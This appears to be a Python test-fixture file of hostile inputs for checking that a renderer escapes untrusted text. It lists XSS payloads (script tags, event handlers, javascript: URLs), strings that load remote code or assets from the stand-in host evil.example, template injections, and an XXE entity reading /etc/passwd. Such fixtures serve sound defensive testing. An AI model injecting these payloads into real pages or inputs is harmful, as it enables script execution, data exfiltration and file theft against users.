"""Texts that would like to be more than text. Where one of them works, it opens a dialog or asks another host."""

ELSEWHERE = "http://evil.example"

SCRIPTS = (
    "<script>alert(1)</script>",
    "<script src=http://evil.example/a.js></script>",
    "<SCRIPT/x>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<script type=module>import 'http://evil.example/m.js'</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)></select>",
    "<b onmouseover=alert(1) onclick=alert(1)>x</b>",
    "<div style='animation:spin 1s' onanimationstart=alert(1)>x</div>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "<x onclick=alert(1)>x",
    "<img src=`x` onerror=alert(1)>",
)
ADDRESSES = (
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=http://evil.example/e>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/r'>",
    "<link rel=stylesheet href=http://evil.example/l.css>",
    "<link rel=preconnect href=http://evil.example>",
    "<form action=http://evil.example/f><input name=q><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<img src=http://evil.example/i.png>",
    "<img srcset='http://evil.example/s.png 1x'>",
    "<picture><source srcset=http://evil.example/p.png><img></picture>",
    "<video poster=http://evil.example/v.png></video>",
    "<table background=http://evil.example/t.png><td>x</table>",
    "<a href=x ping=http://evil.example/ping>x</a>",
)
STYLES = (
    "<style>*{display:none}</style>",
    "<style>@import 'http://evil.example/c.css';</style>",
    "<p style='background:url(http://evil.example/b.png)'>x</p>",
    "<div style='position:fixed;inset:0;z-index:9999'>x</div>",
    "<style>@font-face{font-family:x;src:url(http://evil.example/f.woff2)}*{font-family:x}</style>",
)
EMBEDDED = (
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><image href=http://evil.example/g.svg></svg>",
    "<svg><use href=http://evil.example/u.svg#x></svg>",
    "<math><maction actiontype='statusline' xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
)
MARKDOWN = (
    "![x](http://evil.example/m.png)",
    "[![x](http://evil.example/n.png)](http://evil.example/)",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "[x]: http://evil.example 'x'",
    "![x][y] [y]: http://evil.example/o.png",
    "http://evil.example/auto www.evil.example me@evil.example",
    "``` <img src=x onerror=alert(1)> ```",
    "`<img src=x onerror=alert(1)>`",
    "**bold** __bold__ *it* ~~gone~~ ==mark== | a | b |",
    "$$\\href{javascript:alert(1)}{x}$$ \\(\\url{http://evil.example}\\) \\[x\\]",
    "{{< x >}} {% raw %} <!-- x",
)
TEMPLATES = (
    "${alert(1)}",
    "`${alert(1)}`",
    "{{constructor.constructor('alert(1)')()}}",
    "{{#each value}}{{{this}}}{{/each}} ${value}",
    "<%= alert(1) %> #{alert(1)} [[${alert(1)}]]",
    "{title} {0} %s %(x)s",
    "');alert(1);('",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
BROKEN = (
    "</div></div></article></main></body></html>",
    "</mark></p></li></ol>",
    "<div <b <i",
    "<<<>>><a <b>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?php alert(1) ?>",
    "<plaintext>",
    "<textarea>",
    "<title>owned</title>",
    "<a id=question><input name=question><form id=panel>",
    "<img name=getElementById><form name=querySelector>",
)
WRITING = (
    "\u202egpj.exe\u202c \u2066x\u2069 \u200fabc",
    "zero\u200bwidth\u200d\u2060\ufeffjoined \u00adsoft",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
    "＜script＞alert(1)＜/script＞ ‹script› ﹤b﹥",
    "🏳️‍🌈👩‍👩‍👧‍👦 𝕳𝖊𝖑𝖑𝖔 ﷽",
)
# No file of a corpus may hold these, but a question, an address or a comment may.
CONTROLS = (
    "a\x00b<scr\x00ipt>alert(1)</script>",
    "\x1b[31mred\x07\x08 \x7f",
    "\u2028line\u2029 \u0085next",
)
LONG_WORD = "W" * 900

PAYLOADS = SCRIPTS + HANDLERS + ADDRESSES + STYLES + EMBEDDED + MARKDOWN + TEMPLATES + BROKEN + WRITING
# As the address of a document. Only the last two may become links.
URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://x/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "blob:http://evil.example/1",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "mailto:x@evil.example",
    "'><img src=x onerror=alert(1)>",
    "https://example.org/' onclick='alert(1)",
    'https://example.org/"><script>alert(1)</script>',
)
